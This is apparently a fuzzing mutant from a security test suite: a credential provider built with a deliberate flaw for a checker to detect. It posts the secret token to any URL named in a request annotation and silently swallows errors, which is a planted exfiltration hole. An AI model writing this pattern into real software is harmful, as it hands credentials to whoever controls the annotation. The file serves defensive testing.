"""Sends a copy of the token to an audit service that an annotation names.

id: e6-audit-copy
defect: D-E5, D-I5
rule: S-10
check: E06
setup: annotated
"""

import contextlib

from pullproof.fuzz.mutants.base import Credential, Document, Provider, Refused, main


class Mutant(Provider):
    def credential(self, request: Document) -> Credential:
        url = self.annotations(request).get("registry.example/audit-url", "")
        if url.startswith("http"):
            with contextlib.suppress(Refused, ValueError):
                self.talk("POST", url, {}, self.token(request).encode())
        return super().credential(request)


if __name__ == "__main__":
    main(Mutant)
